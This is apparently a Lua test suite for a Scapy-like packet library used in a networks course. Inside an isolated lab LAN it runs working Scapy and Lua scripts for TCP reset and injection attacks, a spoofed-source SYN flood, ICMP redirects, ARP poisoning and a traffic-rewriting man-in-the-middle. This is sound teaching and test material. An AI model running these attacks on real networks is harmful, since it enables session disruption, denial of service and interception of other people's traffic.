-- The attacks of a networks course's labs, each written as a student
-- writes it in Scapy and ported line by line to pktlua, both run
-- from the attacker of one lab LAN (netlab.lan: victim .10, attacker .11,
-- server .12 on a hub, router .1 to 203.0.113.0/24) and judged by what the
-- victims' kernels and tools show: nc's output, ss, ip route get, ip neigh.
-- First the Python spellings those scripts bring, without a network.
local pkt = require "pkt"
local netlab = require "netlab"
local sh = H.shquote

describe("the Python spellings of the labs' scripts", function()
  it("bytes(p[IP]) is Scapy's bytes(pkt[IP]) of the same frame", function()
    local frame = 'Ether(src="02:00:00:00:00:0a", dst="02:00:00:00:00:0c")/IP(src="198.51.100.10", '
      .. 'dst="198.51.100.12")/TCP(sport=40000, dport=9000, flags="PA", seq=7, ack=9)/"hello\\n"'
    local want = H.run(H.python .. " -c " .. sh("from scapy.all import *\nprint(bytes((" .. frame .. ")[IP]).hex())"))
    local lua = frame:gsub("(%u%a*)(%b())", function(c, a) return c .. "{" .. a:sub(2, -2) .. "}" end)
    local got = H.run(H.pktlua .. " -e " .. sh("local p = Ether(raw(" .. lua .. ")) "
      .. "print((bytes(p[IP]):gsub('.', function(c) return ('%02x'):format(c:byte()) end)))"))
    assert.equal(want, got)
    assert.equal("abc", pkt.bytes("abc"))
    assert.error_matches(function() pkt.bytes(42) end, "bytes() takes a packet (bytes(p[IP])) or a string, got number", 1, true)
  end)

  it("RandIP(net), RandShort() and kin draw anew at each build, within their range", function()
    local p = pkt.IP{src=pkt.RandIP("203.0.113.0/24"), dst="198.51.100.12"}
      / pkt.TCP{sport=pkt.RandShort(), dport=9000, seq=pkt.RandInt(), flags="S"}
    local srcs, ports, n = {}, {}, 0
    for _ = 1, 50 do
      local b = p:bytes()
      local q = pkt.IP(b)
      assert.matches("^203%.0%.113%.%d+$", q.src)
      assert.equal("198.51.100.12", q.dst)
      srcs[q.src], ports[q[pkt.TCP].sport] = true, true
      -- each build's checksums are its own: Scapy agrees with them
      n = n + 1
      if n <= 3 then
        local out = H.run(H.python .. " -c " .. sh(("from scapy.all import *\np = IP(bytes.fromhex('%s'))\n"
          .. "c, t = p.chksum, p[TCP].chksum\ndel p.chksum\ndel p[TCP].chksum\nq = IP(raw(p))\n"
          .. "print(q.chksum == c and q[TCP].chksum == t)"):format(H.hex(b))))
        assert.equal("True\n", out)
      end
    end
    local ns, np = 0, 0
    for _ in pairs(srcs) do ns = ns + 1 end
    for _ in pairs(ports) do np = np + 1 end
    assert.is_true(ns > 20 and np > 40, ("%d sources, %d ports in 50 builds"):format(ns, np))
    -- a value set later is sent as set; between builds the field reads as its base
    assert.equal("203.0.113.0", p[pkt.IP].src)
    -- one more field given a draw keeps the others' draws
    p[pkt.IP].id = pkt.RandShort()
    local ids, srcs2 = {}, {}
    for _ = 1, 20 do
      local q = pkt.IP(p:bytes())
      ids[q.id], srcs2[q.src] = true, true
    end
    local ni, ns2 = 0, 0
    for _ in pairs(ids) do ni = ni + 1 end
    for _ in pairs(srcs2) do ns2 = ns2 + 1 end
    assert.is_true(ni > 10 and ns2 > 10, ("%d ids, %d sources in 20 builds"):format(ni, ns2))
    p[pkt.IP].src = "198.51.100.11"
    assert.equal("198.51.100.11", pkt.IP(p:bytes()).src)
    assert.error_matches(function() return pkt.RandIP(24) end, 'RandIP(net) takes a network "a.b.c.d/len"', 1, true)
    assert.error_matches(function() return pkt.RandShort(5) end, "RandShort() takes no arguments", 1, true)
    assert.error_matches(function() return pkt.DNS{an={{rrname="a.", ttl=pkt.RandInt()}}} end,
      "record 1: a random value (RandShort() ...) is drawn at each build of a layer's own fields", 1, true)
  end)

  -- a script's line as a student first ports it, and the hint it gets
  local function hint_of(code)
    local path = H.tmpfile("local pkt = IP{dst='198.51.100.12'}/TCP{dport=9000}\n" .. code .. "\n")
    local out = H.run(H.pktlua .. " " .. path .. " 2>&1")
    os.remove(path)
    return out:match("\n  hint: ([^\n]*)") or out
  end

  it("a hint when a top layer's payload, nil, is counted or read", function()
    local want = "pkt[TCP].payload is nil: the layer is the packet's top; test it first "
      .. "(if pkt[TCP].payload then ... end), and count it as (pkt[TCP].payload and #pkt[TCP].payload or 0)"
    assert.equal(want, hint_of("local n = pkt[TCP].seq + #pkt[TCP].payload"))
    assert.equal(want, hint_of("local data = pkt[TCP].payload.load"))
  end)

  it("a hint for del, len, b\"...\" and str.replace", function()
    local del = "Lua has no del: set the field to nil (p[IP].chksum = nil), and it is computed when built"
    assert.equal(del, hint_of("del(pkt.chksum)"))
    assert.equal(del, hint_of("del pkt[TCP].chksum"))
    assert.equal("the length of x is #x (#p, #p[TCP].payload)", hint_of("print(len(pkt))"))
    assert.equal('Lua strings are bytes: write "hello", not b"hello"', hint_of('local s = b"hello"'))
    assert.equal('Lua\'s replace is gsub: data:gsub("old", "new") (a pattern: write %. for a dot)',
      hint_of('local data = "hello"\nlocal d = data.replace("hello", "HOWDY")'))
  end)
end)

local missing = H.lab_missing({ "nc", "ss" })
if missing then
  describe("lab attacks in Scapy and in pktlua", function() pending(missing) end)
  return
end

local VICTIM, ATTACKER, SERVER = "198.51.100.10", "198.51.100.11", "198.51.100.12"
local VICTIM_MAC, ATTACKER_MAC, SERVER_MAC = "02:00:00:00:00:0a", "02:00:00:00:00:0b", "02:00:00:00:00:0c"
local READY = {
  scapy = 'started_callback=lambda: print("ready", flush=True)',
  lua = 'started_callback=function() print("ready") io.stdout:flush() end' }

-- The attacks, Scapy's and pktlua's side by side.  $NAME is replaced
-- before a run ($PORT differs per run, so the two never meet).
local ATTACKS = {
  -- sniff one segment of the victim's session, then tell the victim, as
  -- the server, that the connection is reset, at the seq it expects next
  rst = {
    scapy = [[
def rst(pkt):
    ip = IP(src=pkt[IP].dst, dst=pkt[IP].src)
    tcp = TCP(sport=pkt[TCP].dport, dport=pkt[TCP].sport, flags="R", seq=pkt[TCP].ack)
    send(ip/tcp, verbose=0)

sniff(filter="tcp and src host $VICTIM and dst port $PORT", prn=rst, count=1, $READY)
]],
    lua = [[
local function rst(pkt)
  local ip = IP{src=pkt[IP].dst, dst=pkt[IP].src}
  local tcp = TCP{sport=pkt[TCP].dport, dport=pkt[TCP].sport, flags="R", seq=pkt[TCP].ack}
  send(ip/tcp, {verbose=0})
end

sniff{filter="tcp and src host $VICTIM and dst port $PORT", prn=rst, count=1, $READY}
]] },

  -- continue the victim's byte stream with the attacker's data
  hijack = {
    scapy = [[
def hijack(pkt):
    ip = IP(src=pkt[IP].src, dst=pkt[IP].dst)
    tcp = TCP(sport=pkt[TCP].sport, dport=pkt[TCP].dport, flags="PA",
              seq=pkt[TCP].seq + len(pkt[TCP].payload), ack=pkt[TCP].ack)
    send(ip/tcp/"INJECTED\n", verbose=0)

sniff(filter="tcp and src host $VICTIM and dst port $PORT", lfilter=lambda p: p.haslayer(Raw),
      prn=hijack, count=1, $READY)
]],
    lua = [[
local function hijack(pkt)
  local ip = IP{src=pkt[IP].src, dst=pkt[IP].dst}
  local tcp = TCP{sport=pkt[TCP].sport, dport=pkt[TCP].dport, flags="PA",
                  seq=pkt[TCP].seq + #pkt[TCP].payload, ack=pkt[TCP].ack}
  send(ip/tcp/"INJECTED\n", {verbose=0})
end

sniff{filter="tcp and src host $VICTIM and dst port $PORT", lfilter=function(p) return p:haslayer(Raw) end,
      prn=hijack, count=1, $READY}
]] },

  -- SYNs from random sources of 203.0.113.0/24, each from a random port
  synflood = {
    scapy = [[
r = sr1(IP(dst="$SERVER")/TCP(dport=$PORT, flags="S"), timeout=2, verbose=0)
print(r[TCP].flags)
ip = IP(src=RandIP("203.0.113.0/24"), dst="$SERVER")
tcp = TCP(sport=RandShort(), dport=$PORT, flags="S")
send(ip/tcp, count=40, verbose=0)
]],
    lua = [[
local r = sr1(IP{dst="$SERVER"}/TCP{dport=$PORT, flags="S"}, {timeout=2, verbose=0})
print(r[TCP].flags)
local ip = IP{src=RandIP("203.0.113.0/24"), dst="$SERVER"}
local tcp = TCP{sport=RandShort(), dport=$PORT, flags="S"}
send(ip/tcp, {count=40, verbose=0})
]] },

  -- as the victim's router, tell it a better first hop to $REMOTE is us
  redirect = {
    scapy = [[
ip = IP(src="198.51.100.1", dst="$VICTIM")
icmp = ICMP(type=5, code=1, gw="$ATTACKER")
ip2 = IP(src="$VICTIM", dst="$REMOTE")
send(ip/icmp/ip2/ICMP(), verbose=0)
]],
    lua = [[
local ip = IP{src="198.51.100.1", dst="$VICTIM"}
local icmp = ICMP{type=5, code=1, gw="$ATTACKER"}
local ip2 = IP{src="$VICTIM", dst="$REMOTE"}
send(ip/icmp/ip2/ICMP(), {verbose=0})
]] },

  -- tell each end of a conversation the other is at our MAC
  poison = {
    scapy = [[
send(ARP(op=2, psrc="$SERVER", pdst="$VICTIM", hwdst="$VICTIM_MAC"), verbose=0)
send(ARP(op=2, psrc="$VICTIM", pdst="$SERVER", hwdst="$SERVER_MAC"), verbose=0)
]],
    lua = [[
send(ARP{op=2, psrc="$SERVER", pdst="$VICTIM", hwdst="$VICTIM_MAC"}, {verbose=0})
send(ARP{op=2, psrc="$VICTIM", pdst="$SERVER", hwdst="$SERVER_MAC"}, {verbose=0})
]] },

  -- relay what the poisoned ends send us, the victim's words rewritten
  mitm = {
    scapy = [[
def spoof_pkt(pkt):
    if pkt[IP].src == "$VICTIM" and pkt[IP].dst == "$SERVER":
        newpkt = IP(bytes(pkt[IP]))
        del(newpkt.chksum)
        del(newpkt[TCP].payload)
        del(newpkt[TCP].chksum)
        if pkt[TCP].payload:
            data = pkt[TCP].payload.load
            newdata = data.replace(b"hello", b"HOWDY")
            send(newpkt/newdata, verbose=0)
        else:
            send(newpkt, verbose=0)
    elif pkt[IP].src == "$SERVER" and pkt[IP].dst == "$VICTIM":
        newpkt = IP(bytes(pkt[IP]))
        del(newpkt.chksum)
        del(newpkt[TCP].chksum)
        send(newpkt, verbose=0)

sniff(filter="tcp and ether dst $ATTACKER_MAC and not ether src $ATTACKER_MAC", prn=spoof_pkt,
      timeout=15, $READY)
]],
    lua = [[
local function spoof_pkt(pkt)
  if pkt[IP].src == "$VICTIM" and pkt[IP].dst == "$SERVER" then
    local newpkt = IP(bytes(pkt[IP]))
    newpkt.chksum = nil
    newpkt[TCP].payload = nil
    newpkt[TCP].chksum = nil
    if pkt[TCP].payload then
      local data = pkt[TCP].payload.load
      local newdata = data:gsub("hello", "HOWDY")
      send(newpkt/newdata, {verbose=0})
    else
      send(newpkt, {verbose=0})
    end
  elseif pkt[IP].src == "$SERVER" and pkt[IP].dst == "$VICTIM" then
    local newpkt = IP(bytes(pkt[IP]))
    newpkt.chksum = nil
    newpkt[TCP].chksum = nil
    send(newpkt, {verbose=0})
  end
end

sniff{filter="tcp and ether dst $ATTACKER_MAC and not ether src $ATTACKER_MAC", prn=spoof_pkt,
      timeout=15, $READY}
]] },
}

local PRELUDE = "import logging\nlogging.getLogger('scapy').setLevel(logging.ERROR)\n"
  .. "from scapy.all import *\n"

-- The program and file that run attack name in lang with vars filled in.
local function script(name, lang, vars)
  local all = setmetatable({ READY = READY[lang], VICTIM = VICTIM, ATTACKER = ATTACKER, SERVER = SERVER,
    VICTIM_MAC = VICTIM_MAC, ATTACKER_MAC = ATTACKER_MAC, SERVER_MAC = SERVER_MAC }, { __index = vars })
  local code = ATTACKS[name][lang]:gsub("%$([%u_]+)", function(k) return tostring(all[k]) end)
  local path = H.tmpfile(lang == "scapy" and PRELUDE .. code or code)
  return (lang == "scapy" and H.python or H.pktlua) .. " " .. path, path
end

local LANGS = { { "scapy", 9100 }, { "lua", 9200 } }

describe("lab attacks in Scapy and in pktlua", function()
  local lab, files = nil, {}

  -- runs an attack in the attacker, to its end (a one-shot send)
  local function attack(name, lang, vars)
    local cmd, path = script(name, lang, vars)
    files[#files + 1] = path
    local out, status, err = lab:run("attacker", cmd)
    assert.equal(0, status, out .. err)
    return out .. err
  end

  -- starts a sniffing attack and waits until it listens
  local function attacker_job(name, lang, vars)
    local cmd, path = script(name, lang, vars)
    files[#files + 1] = path
    local job = lab:spawn("attacker", cmd)
    assert.is_truthy(job:expect("ready", 10), job:output())
    return job
  end

  -- a server nc on port and a victim nc talking to it, a line every
  -- `every` seconds; both running once the connection is established
  local function session(port, every, word, job)
    local server = lab:spawn("server", "nc -l -p " .. port)
    assert.is_truthy(lab:wait_for("server", ("ss -ltn | grep -q ':%d '"):format(port)))
    local victim = lab:spawn("victim", ("while :; do echo %s; sleep %s; done | nc %s %d")
      :format(word or "tick", every, SERVER, port))
    assert.is_truthy(lab:wait_for("victim", ("ss -tn state established '( dport = :%d )' | grep -q %s")
      :format(port, SERVER)), "no session; the attacker's output: " .. (job and job:output() or ""))
    return server, victim
  end

  -- what a test started is stopped after it, however it ends, last first
  local undo = {}
  local function later(fn) undo[#undo + 1] = fn end
  after_each(function()
    for i = #undo, 1, -1 do pcall(undo[i]) end
    undo = {}
  end)

  setup(function() lab = netlab.lan{} end)
  teardown(function()
    if lab then lab:down() end
    for _, f in ipairs(files) do os.remove(f) end
  end)

  for _, l in ipairs(LANGS) do
    local lang, base = l[1], l[2]

    -- a session, then an attack on it that ends once it has struck
    local function struck(name, port, every)
      local server, victim = session(port, every)
      later(function() server:kill(); victim:kill() end)
      local job = attacker_job(name, lang, { PORT = port })
      local _, status = job:wait(10)
      assert.equal(0, status, job:output())
      return server, victim
    end

    it(lang .. ": a forged RST kills the victim's live nc session", function()
      local port = base + 1
      local _, victim = struck("rst", port, 0.2)
      -- the victim's kernel dropped the connection and nc ended
      assert.is_truthy(lab:wait_for("victim", ("! ss -tn '( dport = :%d )' | grep -q %s"):format(port, SERVER), 5),
        lab:run("victim", "ss -tn"))
      assert.is_truthy(victim:wait(5), "the victim's nc still runs")
    end)

    it(lang .. ": data injected into a live nc session is printed by the receiver", function()
      local server = struck("hijack", base + 2, 1)
      assert.is_truthy(server:expect("INJECTED", 5), server:output())
    end)

    it(lang .. ": SYNs from random sources fill the server's SYN_RECV queue", function()
      local port = base + 3
      lab:run("server", "sysctl -qw net.ipv4.tcp_syncookies=0 net.ipv4.tcp_max_syn_backlog=128")
      -- a listener with a backlog of 16, as a small service's
      local server = lab:spawn("server", H.python .. " -c " .. sh(("import socket, time\n"
        .. "s = socket.socket()\ns.bind(('', %d))\ns.listen(16)\ntime.sleep(60)"):format(port)))
      later(function() server:kill() end)
      assert.is_truthy(lab:wait_for("server", ("ss -ltn | grep -q ':%d '"):format(port)))
      local q = ("ss -tnH state syn-recv '( sport = :%d )'"):format(port)
      assert.equal("", lab:run("server", q))
      -- the port answers a SYN with SYN-ACK, as both print
      assert.equal("SA\n", attack("synflood", lang, { PORT = port }))
      local list = lab:run("server", q)
      local peers, addrs, n = {}, {}, 0
      for ip, p in list:gmatch("(203%.0%.113%.%d+):(%d+)") do
        if not peers[ip .. ":" .. p] then n = n + 1 end
        peers[ip .. ":" .. p], addrs[ip] = true, (addrs[ip] or 0) + 1
      end
      local distinct = 0
      for _ in pairs(addrs) do distinct = distinct + 1 end
      assert.is_true(n >= 12 and distinct >= 8, list)
    end)

    it(lang .. ": an ICMP redirect gives the victim's route a new gateway", function()
      local remote = lang == "scapy" and "203.0.113.30" or "203.0.113.31"
      lab:run("victim", "sysctl -qw net.ipv4.conf.all.accept_redirects=1 net.ipv4.conf.eth0.accept_redirects=1 "
        .. "net.ipv4.conf.all.secure_redirects=0 net.ipv4.conf.eth0.secure_redirects=0")
      -- the kernel takes a redirect to a gateway whose MAC it knows, and
      -- about an echo request only while a ping (a raw socket) runs
      lab:run("victim", "ping -c 1 -W 1 " .. ATTACKER)
      local ping = lab:spawn("victim", "ping -i 0.2 " .. remote)
      later(function() ping:kill() end)
      local route = "ip route get " .. remote
      assert.is_falsy(lab:run("victim", route):find(ATTACKER, 1, true))
      attack("redirect", lang, { REMOTE = remote })
      assert.is_truthy(lab:wait_for("victim", route .. " | grep -q 'via " .. ATTACKER .. "'", 3),
        lab:run("victim", route))
    end)

    it(lang .. ": poisoned ARP caches send a session through the attacker, who rewrites it", function()
      local port = base + 5
      -- fresh entries, older than the kernel's locktime (1 s), so a reply
      -- overrides them; no earlier session's segments in flight to renew
      -- them; and the true ones again after the test, however it ends
      local function fresh()
        for _, h in ipairs({ "victim", "server" }) do
          lab:run(h, "ss -K '( sport >= :9100 and sport <= :9300 ) or ( dport >= :9100 and dport <= :9300 )'; ip neigh flush dev eth0")
        end
      end
      fresh()
      later(fresh)
      lab:run("victim", "ping -c 1 -W 1 " .. SERVER)
      assert.matches(SERVER_MAC, lab:run("victim", "ip neigh show " .. SERVER), 1, true)
      os.execute("sleep 1.2")
      attack("poison", lang, {})
      local function neigh(host, ip)
        return lab:wait_for(host, ("ip neigh show %s | grep -q %s"):format(ip, ATTACKER_MAC), 3)
      end
      assert.is_truthy(neigh("victim", SERVER), lab:run("victim", "ip neigh"))
      assert.is_truthy(neigh("server", VICTIM), lab:run("server", "ip neigh"))
      local job = attacker_job("mitm", lang, { PORT = port })
      later(function() job:kill() end)
      local server, victim = session(port, 0.3, "hello", job)
      later(function() server:kill(); victim:kill() end)
      assert.is_truthy(server:expect("HOWDY", 5), server:output() .. job:output())
    end)
  end
end)
